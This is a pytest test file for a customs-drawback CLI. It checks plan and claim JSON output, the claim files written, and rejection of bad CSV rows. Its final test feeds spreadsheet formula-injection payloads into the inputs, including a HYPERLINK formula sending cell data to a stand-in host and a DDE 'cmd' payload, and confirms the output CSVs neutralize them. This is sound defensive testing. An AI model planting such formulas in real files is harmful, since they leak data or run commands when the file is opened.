"""The `zonekeeper drawback` commands: the JSON contract, files written, bad input exit 2."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest

from zonekeeper.cli import main

IMPORTS = """entry_no,line,import_date,hts,quantity,unit,value,duty,mpf,origin
E1,1,2026-01-15,4202.92.31.20,10,No.,1000,176.00,3.46,VN
E2,1,2026-01-20,4202.92.31.20,10,No.,500,88.00,,VN
"""
EXPORTS = """export_ref,export_date,hts,quantity,unit,value,disposition
X1,2026-03-02,4202.92.31.20,4,No.,200,export
X2,2026-03-10,4202.92.31.20,12,No.,3000,zone_restricted
"""


@dataclass
class Result:
    returncode: int
    stdout: str
    stderr: str


@pytest.fixture
def zk(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch):
    """Run the console entry point in-process (the tariff loads once per test process)."""

    def run(*args: str, cwd: Path) -> Result:
        monkeypatch.chdir(cwd)
        monkeypatch.setattr(sys, "argv", ["zonekeeper", *args])
        capsys.readouterr()
        code = 0
        try:
            main()
        except SystemExit as stop:
            code = stop.code if isinstance(stop.code, int) else 1
        out = capsys.readouterr()
        return Result(code, out.out, out.err)

    return run


def test_console_script_runs_as_a_process(tmp_path: Path):
    r = subprocess.run([sys.executable, "-m", "zonekeeper", "drawback", "plan", "--help"],
                       cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and "--imports" in r.stdout


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "imp.csv").write_text(IMPORTS)
    (tmp_path / "exp.csv").write_text(EXPORTS)
    return tmp_path


def test_plan_json_contract_and_claim_files(files: Path, zk):
    r = zk("drawback", "plan", "--imports", "imp.csv", "--exports", "exp.csv", "--json",
           "--out", "plan.json", cwd=files)
    assert r.returncode == 0, r.stderr
    plan = json.loads(r.stdout)
    for key in ("refund", "method", "designations", "bound", "fifo_refund"):
        assert key in plan
    assert plan["method"] == "optimal" and plan["claim_date"] == "2026-03-10"
    assert any("latest export date" in n for n in plan["notes"])
    for d in plan["designations"]:
        assert {"import_entry", "import_line", "export_ref", "quantity", "refund",
                "rule"} <= d.keys()
    assert json.loads((files / "plan.json").read_text()) == plan
    r = zk("drawback", "claim", "plan.json", "--out", "claim", "--claimant", "12-3456789",
           cwd=files)
    assert r.returncode == 0, r.stderr
    names = sorted(p.name for p in (files / "claim").iterdir())
    assert names == ["claim.html", "claim.json", "claim.md", "claim_header.csv",
                     "claim_lines.csv"]
    claim = json.loads((files / "claim" / "claim.json").read_text())
    assert claim["header"]["refund"] == plan["refund"]
    assert len(claim["lines"]) == len(plan["designations"])


def test_es003_column_names_are_accepted(files: Path, zk):
    (files / "es003.csv").write_text(
        "Entry Summary Number,Entry Summary Line Number,HTS Number - Full,"
        "Line Tariff Goods Value Amount,Line Tariff Duty Amount,Line Tariff Quantity (1),"
        "Line Tariff UOM (1) Code,Country of Origin Code,Entry Date\n"
        "E1,1,4202923120,1000,176.00,10,NO,CN,01/15/2026\n"
        "E1,1,9903880300,,250.00,,,CN,01/15/2026\n")
    r = zk("drawback", "plan", "--imports", "es003.csv", "--exports", "exp.csv", "--json",
           "--type", "j2", "--as-of", "2026-04-01", cwd=files)
    assert r.returncode == 0, r.stderr
    plan = json.loads(r.stdout)
    components = set().union(*(d["components"] for d in plan["designations"]))
    assert "duty_301" in components


def test_bad_input_lists_every_problem_and_writes_nothing(files: Path, zk):
    (files / "bad.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty\n"
        "E1,1,2026-13-01,4202.92.31.20,10,No.,100,17.60\n"
        "E2,x,2026-01-10,42,0,No.,100,abc\n")
    r = zk("drawback", "plan", "--imports", "bad.csv", "--exports", "exp.csv", "--out",
           "plan.json", cwd=files)
    assert r.returncode == 2
    lines = r.stderr.strip().splitlines()
    for where in ("row 2:import_date", "row 3:line", "row 3:hts", "row 3:quantity",
                  "row 3:duty"):
        assert any(where in line for line in lines), (where, lines)
    assert not (files / "plan.json").exists()


def test_alerts_json(files: Path, zk):
    r = zk("drawback", "alerts", "--imports", "imp.csv", "--exports", "exp.csv", "--as-of",
           "2026-03-04", "--json", cwd=files)
    assert r.returncode == 0, r.stderr
    data = json.loads(r.stdout)
    assert [n["export_ref"] for n in data["notices"]] == ["X2"]
    assert data["notices"][0]["status"] == "late"


def test_manufacturing_claim_from_files(files: Path, zk):
    (files / "mimp.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty,part\n"
        "E9,1,2026-01-05,7318.15.60.80,50,No.,500,100.00,BOLT\n")
    (files / "prod.csv").write_text(
        "production_ref,date,product_part,product_qty,input_part,input_qty\n"
        "P1,2026-02-01,WIDGET,10,BOLT,20\n")
    (files / "mexp.csv").write_text(
        "export_ref,export_date,hts,quantity,unit,value,part\n"
        "X9,2026-03-01,8479.89.95.99,5,No.,5000,WIDGET\n")
    r = zk("drawback", "plan", "--type", "a", "--imports", "mimp.csv", "--exports", "mexp.csv",
           "--manufacturing", "prod.csv", "--json", cwd=files)
    assert r.returncode == 0, r.stderr
    [d] = json.loads(r.stdout)["designations"]
    assert (d["quantity"], d["refund"], d["rule"]) == ("10", "19.80", "1313(a) part")


def test_2025_exports_are_designated_without_an_import_step(files: Path, zk):
    """The shipped history prices an export of 2025-09-01 (HTS 2025 Revision 21): no
    `tariff import`, no `--estimate-older-rates`."""
    (files / "old.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty\n"
        "E1,1,2025-01-10,4202.92.31.20,10,No.,100,17.60\n")
    (files / "oldx.csv").write_text(
        "export_ref,export_date,hts,quantity,unit,value\nX1,2025-09-01,4202.92.31.20,5,No.,100\n")
    plain = zk("drawback", "plan", "--imports", "old.csv", "--exports", "oldx.csv", "--json",
               cwd=files)
    assert plain.returncode == 0, plain.stderr
    plan = json.loads(plain.stdout)
    assert plan["unpriced"] == []
    # 5 * 0.99 * 1.76 = 8.712 (the import is the lesser: 17.6% of 20 + MPF per unit > 1.76)
    assert plan["refund"] == "8.71"
    [designation] = plan["designations"]
    assert designation["export_ref"] == "X1"
    estimated = zk("drawback", "plan", "--imports", "old.csv", "--exports", "oldx.csv",
                   "--json", "--estimate-older-rates", cwd=files)
    assert json.loads(estimated.stdout)["refund"] == "8.71"  # nothing left to estimate


def test_unknown_hts_and_bad_cells_of_a_99_row_are_all_reported(files: Path, zk):
    (files / "bad99.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty\n"
        "E1,1,2026-01-15,9999.99.99,-5,No.,abc,17.60\n"
        "E1,2,2026-01-15,4202.92.31.20,5,furlongs,100,17.60\n")
    r = zk("drawback", "plan", "--imports", "bad99.csv", "--exports", "exp.csv", "--out",
           "plan.json", cwd=files)
    assert r.returncode == 2
    lines = r.stderr.strip().splitlines()
    for where, why in (("row 2:hts", "in no loaded HTS revision"),
                       ("row 2:quantity", "greater than 0"), ("row 2:value", "abc"),
                       ("row 3:unit", "furlongs")):
        assert any(where in ln and why in ln for ln in lines), (where, lines)
    assert not (files / "plan.json").exists()


def test_unknown_export_subheading_is_refused(files: Path, zk):
    (files / "badx.csv").write_text(
        "export_ref,export_date,hts,quantity,unit,value\n"
        "X1,2026-03-02,4202.97.77.77,4,No.,200\n")
    r = zk("drawback", "plan", "--imports", "imp.csv", "--exports", "badx.csv", cwd=files)
    assert r.returncode == 2 and "badx.csv:row 2:hts" in r.stderr


def test_refusal_as_json_lists_each_problem_with_its_code(files: Path, zk):
    (files / "bad.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty\n"
        "E1,1,2026-13-01,4202.92.31.20,10,furlongs,100,17.60\n")
    r = zk("drawback", "plan", "--imports", "bad.csv", "--exports", "exp.csv", "--json",
           "--out", "plan.json", cwd=files)
    assert r.returncode == 2
    refused = json.loads(r.stdout)
    assert [(p["code"], p["where"]["row"], p["where"]["field"]) for p in refused["problems"]
            ] == [("drawback.cell.invalid", 2, "import_date"),
                  ("drawback.cell.unit-unknown", 2, "unit")]
    assert not (files / "plan.json").exists()


def test_unknown_statistical_suffix_is_a_loud_note(files: Path, zk):
    (files / "stat.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty\n"
        "E1,1,2026-01-15,4202.92.31.99,10,No.,1000,176.00\n")
    r = zk("drawback", "plan", "--imports", "stat.csv", "--exports", "exp.csv", "--json",
           cwd=files)
    assert r.returncode == 0, r.stderr
    notes = json.loads(r.stdout)["notes"]
    assert any("E1 line 1 (row 2)" in n and "4202.92.31.99" in n for n in notes), notes
    r = zk("drawback", "plan", "--imports", "stat.csv", "--exports", "exp.csv", cwd=files)
    assert "note: import entry E1 line 1 (row 2): statistical number" in r.stdout


def test_claim_refuses_an_edited_plan_and_writes_nothing(files: Path, zk):
    r = zk("drawback", "plan", "--imports", "imp.csv", "--exports", "exp.csv", "--out",
           "plan.json", cwd=files)
    assert r.returncode == 0, r.stderr
    plan = json.loads((files / "plan.json").read_text())
    plan["designations"][0]["refund"] = "99999.00"
    plan["designations"].append(dict(plan["designations"][0]))
    (files / "edited.json").write_text(json.dumps(plan))
    r = zk("drawback", "claim", "edited.json", "--out", "claim", cwd=files)
    assert r.returncode == 2
    assert "edited.json:digest: edited since it was planned" in r.stderr
    assert "re-run drawback plan" in r.stderr
    assert not (files / "claim").exists()


def test_claim_rechecks_against_imports_and_earlier_claims(files: Path, zk):
    r = zk("drawback", "plan", "--imports", "imp.csv", "--exports", "exp.csv", "--out",
           "plan.json", cwd=files)
    assert r.returncode == 0, r.stderr
    r = zk("drawback", "claim", "plan.json", "--out", "ok", "--imports", "imp.csv", cwd=files)
    assert r.returncode == 0, r.stderr
    # A claim filed since (not known when planning) designated 8 of E1 line 1.
    (files / "claimed.csv").write_text("entry_no,line,quantity,claim_no\nE1,1,8,OLD-1\n")
    r = zk("drawback", "claim", "plan.json", "--out", "claim", "--imports", "imp.csv",
           "--claimed", "claimed.csv", cwd=files)
    assert r.returncode == 2
    assert "plan.json:row" in r.stderr and "190.51(a)(3)" in r.stderr
    assert not (files / "claim").exists()
    r = zk("drawback", "claim", "plan.json", "--out", "claim", "--claimed", "claimed.csv",
           cwd=files)
    assert r.returncode == 2 and "--claimed needs --imports" in r.stderr


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Click")'
QUOTED_FORMULA = '"' + FORMULA.replace('"', '""') + '"'


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [c for row in csv.reader(handle) for c in row]


def _formula_free(path: Path) -> None:
    """No cell of `path` would run in a spreadsheet: none starts with a formula prefix
    unless it is a plain number."""
    for c in _csv_cells(path):
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
            r"-?\d+(\.\d+)?", c), (path.name, c)


def test_claim_csvs_neutralize_formulas_from_input_files_and_options(tmp_path: Path, zk):
    (tmp_path / "imp.csv").write_text(
        "entry_no,line,import_date,hts,quantity,unit,value,duty,mpf,origin\n"
        f"{QUOTED_FORMULA},1,2026-01-15,4202.92.31.20,10,No.,1000,176.00,3.46,VN\n"
        "@SUM(1+1),1,2026-01-20,4202.92.31.20,10,No.,500,88.00,,VN\n")
    (tmp_path / "exp.csv").write_text(
        "export_ref,export_date,hts,quantity,unit,value,disposition\n"
        "=1+1,2026-03-02,4202.92.31.20,4,No.,200,export\n"
        "+cmd|' /C calc'!A0,2026-03-10,4202.92.31.20,12,No.,3000,zone_restricted\n"
        "-2+3,2026-03-10,4202.92.31.20,1,No.,300,export\n")
    r = zk("drawback", "plan", "--imports", "imp.csv", "--exports", "exp.csv", "--out",
           "plan.json", "--json", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    r = zk("drawback", "claim", "plan.json", "--out", "claim", "--claimant", "=1+2",
           "--port", "@A1", "--entry-no", "\tX", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    lines, header = tmp_path / "claim" / "claim_lines.csv", tmp_path / "claim" / "claim_header.csv"
    _formula_free(lines)
    _formula_free(header)
    cells = _csv_cells(lines) + _csv_cells(header)
    for text in (FORMULA, "@SUM(1+1)", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "=1+2", "@A1",
                 "\tX"):
        assert "'" + text in cells, text
    with lines.open(newline="", encoding="utf-8") as handle:
        for row in csv.DictReader(handle):  # amounts the product writes stay numbers
            assert Decimal(row["refund"]) >= 0 and Decimal(row["quantity"]) > 0
